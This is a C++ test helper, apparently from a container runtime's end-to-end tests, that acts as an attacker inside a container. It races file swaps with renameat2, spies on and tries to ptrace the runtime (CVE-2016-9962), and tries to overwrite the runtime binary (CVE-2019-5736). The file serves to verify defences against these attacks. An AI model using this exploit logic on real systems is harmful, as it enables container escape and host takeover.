// SPDX-License-Identifier: Apache-2.0
// What an attacker in a container does. All of them go on until they are killed.
#include "e2e/testbox/attacks.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <set>
#include <string>
#include <tuple>

namespace dhow::testbox {
namespace {

void say_ready() {
  puts("ready");
  fflush(stdout);
}

// Calls `visit` for each process that wasn't there at the start, again and again, and with "" once
// a pass.
template <typename Visit>
[[noreturn]] void watch_processes(Visit visit) {
  std::set<std::string> old;
  for (bool first = true;; first = false) {
    DIR* proc = opendir("/proc");
    if (proc == nullptr) _exit(1);
    while (const dirent* entry = readdir(proc)) {
      std::string name = entry->d_name;
      if (name.find_first_not_of("0123456789") != std::string::npos) continue;
      if (first) old.insert(name);
      if (!old.contains(name)) visit(name);
    }
    closedir(proc);
    if (first) say_ready();
    visit("");
  }
}

std::string read_link(const std::string& path) {
  char target[4096];
  ssize_t size = readlink(path.c_str(), target, sizeof target - 1);
  return std::string(target, size > 0 ? static_cast<size_t>(size) : 0);
}

// The first time only: the same process is seen again and again.
void report(const std::string& line) {
  static std::set<std::string> said;
  if (!said.insert(line).second) return;
  puts(line.c_str());
  fflush(stdout);
}

// All programs of the test containers are in /bin. The runtime runs from a mount of its own, where
// its path is "/", or under a name of the host.
bool is_runtime(const std::string& program) {
  return !program.empty() && !program.starts_with("/bin/");
}

// What can be had from a process while it is still the runtime's (CVE-2016-9962).
void spy_on(const std::string& pid) {
  if (pid.empty()) return;
  std::string proc = "/proc/" + pid;
  // As long as it is the runtime its links must not be readable at all.
  std::string program = read_link(proc + "/exe");
  if (!is_runtime(program)) return;
  report("exe " + program);
  for (int fd = 3; fd < 32; ++fd) {
    std::string target = read_link(proc + "/fd/" + std::to_string(fd));
    if (!target.empty()) report("fd " + target);
  }
  if (ptrace(PTRACE_SEIZE, atoi(pid.c_str()), 0, 0) == 0) {
    report("ptrace");
    _exit(0);  // which lets go of it, so that the test ends
  }
}

// Tries to write to the file behind an O_PATH descriptor. While somebody runs it, it is busy.
void try_to_write(int fd) {
  std::string self = "/proc/self/fd/" + std::to_string(fd);
  int writable = open(self.c_str(), O_WRONLY | O_CLOEXEC);
  if (writable < 0 && errno == ETXTBSY) return;
  report((writable < 0 ? "refused " : "opened ") + read_link(self));
  if (writable < 0) return;
  std::ignore = write(writable, "evil", 4);
  close(writable);
}

}  // namespace

int run_swap(int argc, char** argv) {
  if (argc < 3) return 2;
  if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
    perror("renameat2");
    return 1;
  }
  say_ready();
  while (true) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}

int run_spy(int, char**) { watch_processes(spy_on); }

// Holds the runtime's program open and tries to write to it (CVE-2019-5736), also when nobody runs
// it any more.
int run_overwrite(int, char**) {
  constexpr std::size_t kMost = 16;
  std::set<int> held;
  watch_processes([&](const std::string& pid) {
    for (int fd : held) try_to_write(fd);
    if (pid.empty() || held.size() == kMost) return;
    std::string path = "/proc/" + pid + "/exe";
    int program = open(path.c_str(), O_PATH | O_CLOEXEC);
    if (program < 0) return;
    if (is_runtime(read_link("/proc/self/fd/" + std::to_string(program)))) {
      held.insert(program);
      report("found " + read_link("/proc/self/fd/" + std::to_string(program)));
    } else {
      close(program);
    }
  });
}

}  // namespace dhow::testbox
